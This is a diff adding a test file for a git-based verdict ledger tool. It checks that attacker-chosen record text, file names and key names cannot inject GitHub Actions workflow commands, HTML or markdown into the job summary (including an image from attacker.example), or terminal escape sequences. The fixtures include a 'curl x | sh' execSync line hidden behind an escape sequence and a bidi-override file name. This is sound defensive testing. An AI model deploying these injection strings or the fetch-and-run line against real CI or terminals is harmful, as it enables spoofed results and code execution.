@@ -1,0 +1,200 @@
+/**
+ * Text a pusher, a record or a key file chose, as the gates and the read commands print it. Whoever can push the
+ * ledger can add a line that needs no key to be read (it fails decoding before any signature check), and whoever
+ * opens a pull request chooses file names and the content of a proposed key file. None of it may start a line of its
+ * own (under GitHub Actions a line starting with `::` is a workflow command), redraw the terminal, break out of the
+ * job summary's formatting, or show a file under another name. Each attack is paired with the honest case.
+ */
+import fs from 'node:fs';
+import path from 'node:path';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { canonicalize } from '../../packages/core/src/canonical-json.js';
+import { IN_TOTO_PAYLOAD_TYPE } from '../../packages/core/src/dsse.js';
+import { POLICY_PATH, parsePolicy } from '../../packages/core/src/policy.js';
+import {
+  adopt,
+  cli,
+  cliOk,
+  commit,
+  copyWorkTree,
+  gitOk,
+  makeStory,
+  makeWorkTree,
+  recordVerdict,
+  type Story,
+  writeFiles,
+} from '../support/cli-story.js';
+
+let story: Story;
+let template: string;
+let blob: string;
+
+beforeAll(async () => {
+  story = makeStory('delegate-git-output-');
+  delete story.env.GITHUB_ACTIONS;
+  delete story.env.GITHUB_STEP_SUMMARY;
+  template = makeWorkTree(story, 'template');
+  adopt(story, template, ['src/**']);
+  writeFiles(template, { 'src/a.ts': 'export const a = 1;\n' });
+  blob = await recordVerdict(story, template, 'src/a.ts');
+  gitOk(story, template, ['add', 'src']);
+  expect(commit(story, template, 'add a').code).toBe(0);
+});
+
+afterAll(() => story.cleanup());
+
+/** A note line anyone can write: a verdict whose subject `name` fails decoding, under a signature of zeros. */
+function unsignedLine(dir: string, name: string): string {
+  const { repositoryId } = parsePolicy(fs.readFileSync(path.join(dir, POLICY_PATH), 'utf8'));
+  const statement = {
+    _type: 'https://in-toto.io/Statement/v1',
+    subject: [{ name, digest: { sha256: 'no', gitBlob: 'no' } }],
+    predicateType: 'urn:delegate-git:verdict:v1',
+    predicate: {
+      verdict: 'UNIT_PASSED',
+      repository: { id: repositoryId },
+      createdAt: '2026-01-01T00:00:00Z',
+    },
+  };
+  return canonicalize({
+    payload: Buffer.from(canonicalize(statement)).toString('base64'),
+    payloadType: IN_TOTO_PAYLOAD_TYPE,
+    signatures: [{ keyid: '0'.repeat(64), sig: Buffer.alloc(64).toString('base64') }],
+  });
+}
+
+function addLine(dir: string, line: string): void {
+  gitOk(story, dir, ['notes', '--ref=delegations', 'append', '-m', line, blob]);
+}
+
+const INJECTED =
+  'x\n::add-mask::FAILED\n::notice title=delegate-git::ledger verified\n## ✅ verified\n<img src="https://attacker.example/p.png">\n| governed files | 1: 1 promoted, 0 refused |\n';
+
+describe('an unsigned ledger line whose subject name holds line breaks', () => {
+  let dir: string;
+  let summaryFile: string;
+  beforeAll(() => {
+    dir = copyWorkTree(story, template, 'workflow-commands');
+    summaryFile = path.join(story.root, 'summary.md');
+  });
+
+  it('starts no line of verify’s output or job summary: it is listed as one invalid line, escaped', () => {
+    addLine(dir, unsignedLine(dir, INJECTED));
+    const run = cli(story, dir, ['verify'], {
+      ...story.env,
+      GITHUB_ACTIONS: 'true',
+      GITHUB_STEP_SUMMARY: summaryFile,
+    });
+    expect(run.code).toBe(1);
+    // The only workflow commands are verify's own annotations of refused files (none here).
+    expect(run.stdout.split('\n').filter((l) => l.trimStart().startsWith('::'))).toEqual([]);
+    const invalid = run.stdout.split('\n').filter((l) => l.startsWith('INVALID LINE'));
+    expect(invalid).toHaveLength(1);
+    expect(invalid[0]).toContain('\\n::add-mask::FAILED\\n::notice');
+    expect(run.stdout).toMatch(/\nverify: FAILED\n$/);
+
+    const summary = fs.readFileSync(summaryFile, 'utf8');
+    expect(summary.match(/^## .*$/gm)).toEqual(['## delegate-git ledger: ❌ problems found']);
+    expect(summary).not.toMatch(/^\| governed files \| 1: 1 promoted/m);
+    expect(summary).not.toMatch(/(^|[^\\])<img/m);
+    expect(summary).toContain('\\<img src=');
+  });
+
+  it('control: a line that is merely malformed is listed the same way, by its reason', () => {
+    const plain = copyWorkTree(story, template, 'plain-malformed');
+    addLine(plain, unsignedLine(plain, 'src/a.ts'));
+    const run = cli(story, plain, ['verify']);
+    expect(run.code).toBe(1);
+    expect(run.stdout).toContain('not a valid record: subject src/a.ts has no sha256 digest');
+  });
+});
+
+describe('escape sequences and carriage returns in a record', () => {
+  it('reach no terminal: show, log and verify print them as \\u escapes', () => {
+    const dir = copyWorkTree(story, template, 'escapes');
+    addLine(dir, unsignedLine(dir, 'x\r\x1b[2K  valid  review approve by alice\x1b[8m'));
+    for (const args of [['show', 'src/a.ts'], ['log'], ['verify']]) {
+      const run = cli(story, dir, args);
+      const out = run.stdout + run.stderr;
+      expect(out, args.join(' ')).not.toMatch(/[\r\x1b]/);
+      expect(out, args.join(' ')).toMatch(/\\(r|u000d)\\(033|u001b)\[2K {2}valid {2}review approve by alice/);
+    }
+  });
+
+  it('nor does the content attest shows a reviewer: the diff keeps them visible', () => {
+    const dir = copyWorkTree(story, template, 'attest-diff');
+    writeFiles(dir, {
+      'src/a.ts':
+        'export const a = 1;\nrequire("child_process").execSync("curl x | sh");\r\x1b[2K+// no change\n',
+    });
+    const run = cliOk(story, dir, ['attest', '--approve', 'src/a.ts', '--yes']);
+    expect(run.stdout).not.toMatch(/[\r\x1b]/);
+    expect(run.stdout).toContain('execSync("curl x | sh");\\u000d\\u001b[2K+// no change');
+  });
+});
+
+describe('file names in the job summary and in refusals', () => {
+  it('a name with backticks and HTML stays inside its code span; one with a bidirectional override is quoted', () => {
+    const dir = copyWorkTree(story, template, 'names');
+    const tricky = 'src/x` <img src=x> **all files promoted** `.ts';
+    const bidi = 'src/evil\u202esj.txt';
+    writeFiles(dir, { [tricky]: '1\n', [bidi]: '2\n' });
+    gitOk(story, dir, ['add', 'src']);
+    expect(commit(story, dir, 'unpromoted', ['--no-verify']).code).toBe(0);
+    const summaryFile = path.join(story.root, 'names.md');
+    const run = cli(story, dir, ['verify'], { ...story.env, GITHUB_STEP_SUMMARY: summaryFile });
+    expect(run.code).toBe(1);
+    expect(run.stdout).toContain('NOT PROMOTED  "src/evil\\342\\200\\256sj.txt"');
+    expect(run.stdout).not.toContain('\u202e');
+    const summary = fs.readFileSync(summaryFile, 'utf8');
+    expect(summary).toContain('- ``src/x` <img src=x> **all files promoted** `.ts`` is not promoted');
+    // Control: a plain name is a plain code span.
+    expect(summary).toContain('- `"src/evil\\342\\200\\256sj.txt"` is not promoted');
+  });
+});
+
+describe('a key file’s name', () => {
+  function withKeyName(name: string, label: string): string {
+    const dir = copyWorkTree(story, template, label);
+    const keysDir = path.join(dir, '.delegate-git/keys');
+    const [file] = fs.readdirSync(keysDir);
+    const key = JSON.parse(fs.readFileSync(path.join(keysDir, file!), 'utf8')) as Record<string, unknown>;
+    key.name = name;
+    fs.writeFileSync(path.join(keysDir, file!), `${JSON.stringify(key, null, 2)}\n`);
+    return dir;
+  }
+
+  it('holding a line break is refused (exit 2, naming the field); a name in any script is fine (control)', () => {
+    const bad = cli(story, withKeyName('mallory\n::add-mask::FAILED', 'name-newline'), ['check', 'src/a.ts']);
+    expect(bad.code).toBe(2);
+    expect(bad.stderr).toContain('field name must be printable text on one line');
+    expect(bad.stderr.split('\n').filter((l) => l.startsWith('::'))).toEqual([]);
+
+    const fine = cli(story, withKeyName('Zoë Łukasiewicz', 'name-unicode'), ['check', 'src/a.ts']);
+    expect(fine.code, fine.stderr).toBe(0);
+  });
+
+  it('__proto__ is counted by signer like any other name', () => {
+    const dir = withKeyName('__proto__', 'name-proto');
+    gitOk(story, dir, ['commit', '-q', '-a', '--no-verify', '-m', 'rename the key']);
+    const run = cli(story, dir, ['verify', '--json']);
+    expect(run.code, run.stderr).not.toBe(2);
+    const result = JSON.parse(run.stdout) as { bySigner: Record<string, number> };
+    // The verdict on src/a.ts and the adoption's approval of the key file.
+    expect(Object.entries(result.bySigner)).toEqual([['__proto__', 2]]);
+  });
+
+  it('given twice in the file, is refused: the policy and key files are strict JSON, as records are', () => {
+    const dir = copyWorkTree(story, template, 'duplicate-key');
+    const keysDir = path.join(dir, '.delegate-git/keys');
+    const [file] = fs.readdirSync(keysDir);
+    const text = fs.readFileSync(path.join(keysDir, file!), 'utf8');
+    fs.writeFileSync(path.join(keysDir, file!), text.replace(/\n}\s*$/, ',\n  "roles": ["delegator"]\n}\n'));
+    const run = cli(story, dir, ['check', 'src/a.ts']);
+    expect(run.code).toBe(2);
+    expect(run.stderr).toContain('is not valid JSON (duplicate key "roles" at offset');
+    // Control: the file as it was loads.
+    fs.writeFileSync(path.join(keysDir, file!), text);
+    expect(cli(story, dir, ['check', 'src/a.ts']).code).toBe(0);
+  });
+});
